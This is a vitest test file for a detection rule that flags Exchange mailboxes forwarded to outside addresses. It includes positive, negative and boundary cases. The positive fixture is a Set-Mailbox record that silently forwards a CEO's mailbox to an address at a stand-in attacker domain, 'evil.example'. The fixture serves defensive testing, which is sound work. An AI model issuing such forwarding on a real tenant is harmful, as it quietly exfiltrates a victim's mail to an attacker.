import { describe } from "vitest";
import rule from "../../../src/findings/rules/mailbox-forwarding-external/rule.js";
import { cmdlet, DOMAIN, ruleCases } from "../rule-cases.js";

const admin = { UserId: `admin@${DOMAIN}`, UserType: 2 };

describe("mailbox-forwarding-external", () => {
  ruleCases(rule, {
    positive: [
      {
        name: "ForwardingSmtpAddress outside, keeping a copy",
        records: [
          cmdlet(
            "Set-Mailbox",
            {
              Identity: `ceo@${DOMAIN}`,
              ForwardingSmtpAddress: "smtp:ceo@evil.example",
              DeliverToMailboxAndForward: "True",
            },
            admin,
          ),
        ],
        findings: 1,
        reason: /set mailbox ceo@contoso\.example to forward to ceo@evil\.example \(keeping a copy/,
      },
    ],
    negative: [
      {
        name: "Set-Mailbox AuditEnabled",
        records: [cmdlet("Set-Mailbox", { Identity: "x", AuditEnabled: "True" }, admin)],
        findings: 0,
      },
    ],
    boundary: [
      {
        name: "forwarding inside the tenant",
        records: [
          cmdlet("Set-Mailbox", { Identity: "x", ForwardingSmtpAddress: `smtp:help@${DOMAIN}` }, admin),
        ],
        findings: 0,
      },
    ],
  });
});
